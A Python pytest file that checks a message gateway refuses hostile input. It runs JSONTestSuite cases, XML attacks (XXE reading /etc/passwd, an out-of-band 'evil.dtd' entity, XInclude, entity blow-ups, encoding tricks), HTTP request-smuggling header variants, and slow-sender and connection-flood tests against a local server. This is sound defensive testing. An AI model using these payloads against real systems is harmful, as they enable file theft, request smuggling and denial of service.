# SPDX-License-Identifier: Apache-2.0
"""Collections of what is sent to parsers by who means ill, against the partners' port: others' hard cases of
JSON, attacks on XML, requests that two programs would read in two ways, and senders that never finish.  Each
gets a clear answer in little time, and whoever comes next is served."""
import os
import pathlib
import socket
import time

import pytest

from harness import documents
from harness.gateway import JSON, VARIANT, XML
from harness.services import ROOT

pytestmark = [pytest.mark.broker, pytest.mark.asan]
SHARED = pathlib.Path(os.environ.get("LIENTHONG_SHARED", ROOT.parent / "shared"))
SUITE = SHARED / "attacks" / "json" / "test_parsing"
NAMESPACE = "urn:x-lienthong:handoff:1"
IN_TIME = 5  # seconds; under a sanitizer and beside other tests
IS_MEASURED = VARIANT == "release"  # a sanitizer keeps what was freed
count = iter(range(10 ** 9))


def fresh():
    number = next(count)
    return documents.native_xml(f"HC-{number}", documents.dossier_code(number))


@pytest.fixture
def gateway(shared_gateway):
    yield shared_gateway
    assert shared_gateway.post(fresh()).status == 202


def post_in_time(gateway, *how, **more):
    started = time.monotonic()
    answer = gateway.post(*how, **more)
    assert time.monotonic() - started < IN_TIME
    return answer


# JSON: y_ must be taken as JSON, n_ must not, i_ may be either.

@pytest.mark.skipif(not SUITE.is_dir(), reason=f"there is no JSONTestSuite at {SUITE}")
def test_each_case_of_the_json_collection_is_answered(gateway):
    wrong = []
    cases = sorted(SUITE.glob("*.json"))
    assert len(cases) > 300
    for case in cases:
        answer = post_in_time(gateway, case.read_bytes(), JSON, partner="tinh-binhduong")
        rules = {one["rule"] for one in answer.problems()} if answer.status == 422 else set()
        is_parsed = rules == {"unrecognised"}
        # No case is a document of any partner: what is JSON is not recognised, and nothing is taken.
        if answer.status not in (400, 422) or case.name[0] == "n" and is_parsed:
            wrong.append((case.name, answer.status, rules))
    assert wrong == []


# XML.

def native(inside, before=""):
    """A document of ours, as far as a parser sees, with the attack before or in it."""
    return (f'<?xml version="1.0"?>{before}<HandoffMessage xmlns="{NAMESPACE}" version="1.0">'
            f"{inside}</HandoffMessage>")


def dtd(declarations, inside="&a;"):
    return native(f"<Envelope>{inside}</Envelope>", f"<!DOCTYPE HandoffMessage [{declarations}]>")


SQUARE = dtd(f'<!ENTITY a "{"x" * 50000}">', "&a;" * 2000)
CDATA = native("<Envelope>" + "<![CDATA[x]]>" * 100000 + "</Envelope>")
PLAIN = fresh().decode()
XML_ATTACKS = {
    "parameter entity": dtd('<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; <!ENTITY a "x">'),
    "entity out of band": dtd('<!ENTITY % d SYSTEM "http://127.0.0.1:PORT/evil.dtd"> %d; %send;'),
    "external entity over http": dtd('<!ENTITY a SYSTEM "http://127.0.0.1:PORT/x">'),
    "external entity, public": dtd('<!ENTITY a PUBLIC "x" "http://127.0.0.1:PORT/x">'),
    "quadratic blow-up": SQUARE,
    "entity that names itself": dtd('<!ENTITY a "&b;"><!ENTITY b "&a;">'),
    "attribute default of a DTD": dtd('<!ATTLIST HandoffMessage x CDATA "y">', ""),
    "notation and unparsed entity": dtd(
        '<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "file:///dev/zero" NDATA n>', ""),
    "doctype after a comment": native("", "<!-- <a> --><!DOCTYPE HandoffMessage>"),
    "doctype in small letters": native("", "<!doctype HandoffMessage>"),
    "conditional section": native("<![INCLUDE[<a/>]]>"),
    "XInclude of a file": native('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                 'href="file:///etc/passwd" parse="text"/>'),
    "XInclude over http": native('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                 'href="http://127.0.0.1:PORT/x"/>'),
    "stylesheet instruction": native("", '<?xml-stylesheet href="http://127.0.0.1:PORT/x.xsl"?>'),
    "schema location": native('<Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                              f'xsi:schemaLocation="{NAMESPACE} http://127.0.0.1:PORT/x.xsd"/>'),
    "namespace flood": native("".join(f'<a xmlns:n{n}="urn:{n}"/>' for n in range(5000))),
    "attributes that collide": native("<Envelope " + " ".join(
        f'{chr(97 + n % 26)}{n}=""' for n in range(5000)) + "/>"),
    "deep and wide": native("<a>" * 63 + "<b/>" * 200001),
    "one endless name": native(f"<{'n' * 3_000_000}/>"),
    "one endless attribute": native(f'<Envelope x="{"y" * 3_000_000}"/>'),
    "a bomb of CDATA": CDATA,
    "a comment without end": native("<!--" + "-x" * 100000),
    "instruction flood": native("<?x y?>" * 100000),
    "character references": native("<Envelope>" + "&#65;" * 300000 + "</Envelope>"),
    "a reference to a character that is none": native("<Envelope>&#xFFFFFFFF;&#0;</Envelope>"),
    "two declarations": '<?xml version="1.0"?>' + PLAIN,
    "UTF-7 said": PLAIN.replace("UTF-8", "UTF-7"),
    "UTF-7 written": '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4APA-a+AC8APg-',
    "EBCDIC said": PLAIN.replace("UTF-8", "IBM037"),
    "UTF-32": PLAIN.replace("UTF-8", "UTF-32").encode("utf-32"),
    "UTF-16 without a mark": PLAIN.replace("UTF-8", "UTF-16").encode("utf-16-le"),
    "UTF-16 that says UTF-8": PLAIN.encode("utf-16"),
    "overlong less-than": PLAIN.encode().replace(b"<Envelope>", b"\xc0\xbcEnvelope>"),
    "a surrogate": PLAIN.encode().replace(b"<Channel>1", b"<Channel>\xed\xa0\x80"),
    "cut inside a character": PLAIN.encode().rsplit("ử".encode()[:2], 1)[0] + "ử".encode()[:2],
}


@pytest.fixture
def bait():
    """A server to which nobody may come."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.mark.parametrize("name", XML_ATTACKS)
def test_each_attack_on_xml_is_refused(gateway, bait, name):
    body = XML_ATTACKS[name]
    body = body.encode() if isinstance(body, str) else body
    gateway.forget_peak()
    before = gateway.rss_kib()
    answer = post_in_time(gateway, body.replace(b"PORT", b"%d" % bait.getsockname()[1]), XML)
    assert answer.status in (400, 422), answer
    assert b"root:" not in answer.body and len(answer.body) < 100_000
    assert not IS_MEASURED or gateway.peak_kib() - before < 256 * 1024


# Requests that hide another one.

HIDDEN = b"GET /v1/hidden HTTP/1.1\r\nHost: x\r\n\r\n"
CHUNKED = "Transfer-Encoding: chunked\r\n"
SMUGGLED = {
    "length and chunks": f"Content-Length: {5 + len(HIDDEN)}\r\n{CHUNKED}\r\n0\r\n\r\n",
    "chunks and length": f"{CHUNKED}Content-Length: {5 + len(HIDDEN)}\r\n\r\n0\r\n\r\n",
    "two lengths": f"Content-Length: 0\r\nContent-Length: {len(HIDDEN)}\r\n\r\n",
    "a list of lengths": f"Content-Length: 0, {len(HIDDEN)}\r\n\r\n",
    "a folded length": f"Content-Length: 0\r\n {len(HIDDEN)}\r\n\r\n",
    "a folded encoding": f"Content-Length: {len(HIDDEN)}\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    "an encoding in disguise": f"Content-Length: {len(HIDDEN)}\r\nTransfer-Encoding: xchunked\r\n\r\n",
    "an encoding behind a vertical tab": "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    "an encoding twice": f"{CHUNKED}Transfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "a blank before the colon": "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "a bare line feed in the head": f"X-A: b\nContent-Length: {len(HIDDEN)}\r\n\r\n",
    "a bare line feed that ends the head": "Content-Length: 0\r\n\n",
    "a bare carriage return": f"X-A: b\rContent-Length: {len(HIDDEN)}\r\n\r\n",
    "a chunk's size with a line feed": f"{CHUNKED}\r\n0\n\r\n",
    "a chunk's size with a sign": f"{CHUNKED}\r\n+0\r\n\r\n",
    "a chunk's size with 0x": f"{CHUNKED}\r\n0x0\r\n\r\n",
    "a chunk's size that overflows": f"{CHUNKED}\r\n10000000000000000\r\n\r\n",
    "a chunk longer than it says": f"{CHUNKED}\r\n1\r\nabc\r\n0\r\n\r\n",
}


def all_that_comes(gateway, request, wait=4):
    with socket.create_connection(("127.0.0.1", gateway.port), timeout=wait) as stream:
        stream.sendall(request)
        received = b""
        try:
            while chunk := stream.recv(65536):
                received += chunk
        except (TimeoutError, ConnectionResetError):
            pass
        return received


@pytest.mark.parametrize("name", SMUGGLED)
def test_no_request_hides_another(gateway, name):
    head = (f"POST /v1/handoffs HTTP/1.1\r\nHost: x\r\nContent-Type: {XML}\r\n"
            f"Authorization: Bearer {gateway.keys['motcua-phucuong']}\r\n")
    received = all_that_comes(gateway, (head + SMUGGLED[name]).encode("latin-1") + HIDDEN)
    # The library may say its 400 twice before it closes; the hidden one would be a 404.
    assert b"HTTP/1.1 404" not in received and b"HTTP/1.1 2" not in received, received[:600]


def test_chunk_extensions_and_trailers_change_nothing(gateway):
    body = fresh()
    head = (f"POST /v1/handoffs HTTP/1.1\r\nHost: x\r\nContent-Type: {XML}\r\nConnection: close\r\n"
            f"Authorization: Bearer {gateway.keys['motcua-phucuong']}\r\n{CHUNKED}\r\n").encode()
    chunks = b'%x;a="b;\\"c";d\r\n%s\r\n0;e\r\nContent-Length: 5\r\nHost: y\r\n\r\n' % (len(body), body)
    received = all_that_comes(gateway, head + chunks)
    assert received.count(b"HTTP/1.1 ") == 1
    assert received.split(b" ", 2)[1] in (b"202", b"400"), received[:600]


# Senders that never finish.

@pytest.fixture
def impatient(gateways):
    """A daemon with room for a hundred connections, and two seconds for a head."""
    return gateways(config={"http": {"connections": 100, "idle_timeout_ms": 2000,
                                     "body_deadline_ms": 3000, "body_least_rate": 0}})


def those_left(streams, drip, seconds):
    """Who still has a connection after so long, if each says `drip` twice a second."""
    alive, ends = set(streams), time.monotonic() + seconds
    while alive and time.monotonic() < ends:
        for stream in list(alive):
            try:
                if drip:
                    stream.sendall(drip)
                elif stream.recv(1) == b"":
                    alive.discard(stream)
            except BlockingIOError:
                pass
            except OSError:
                alive.discard(stream)
        time.sleep(0.5)
    return alive


@pytest.mark.parametrize("name, start, drip", [
    ("idle", b"", b""), ("half a request line", b"POST /v1/hand", b"o"),
    ("a head without end", b"POST /v1/handoffs HTTP/1.1\r\nHost: x\r\n", b"X-A: b\r\n")])
def test_who_never_says_what_he_wants_is_cut(impatient, name, start, drip):
    streams = [socket.create_connection(("127.0.0.1", impatient.port), timeout=10) for _ in range(90)]
    for stream in streams:
        stream.sendall(start)
        stream.setblocking(False)
    assert impatient.post(fresh()).status == 202, "they shut an honest sender out"
    left = those_left(streams, drip, 10)
    for stream in streams:
        stream.close()
    assert not left, f"{len(left)} of 90 still sit there"
    assert impatient.post(fresh()).status == 202


def test_who_takes_every_connection_keeps_others_out_for_a_moment_alone(impatient):
    streams = [socket.create_connection(("127.0.0.1", impatient.port), timeout=10) for _ in range(150)]
    started = time.monotonic()
    assert impatient.post(fresh(), timeout=30).status == 202
    assert time.monotonic() - started < 15
    for stream in streams:
        stream.close()


def test_who_never_reads_the_answer_holds_up_nobody(impatient):
    """Asks again and again, and lets the answers pile up."""
    streams = [socket.create_connection(("127.0.0.1", impatient.port), timeout=10) for _ in range(40)]
    for stream in streams:
        stream.setblocking(False)
        try:
            for _ in range(2000):
                stream.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
        except BlockingIOError:
            pass
    started = time.monotonic()
    assert impatient.post(fresh()).status == 202
    assert time.monotonic() - started < IN_TIME
    assert not IS_MEASURED or impatient.rss_kib() < 512 * 1024
    for stream in streams:
        stream.close()
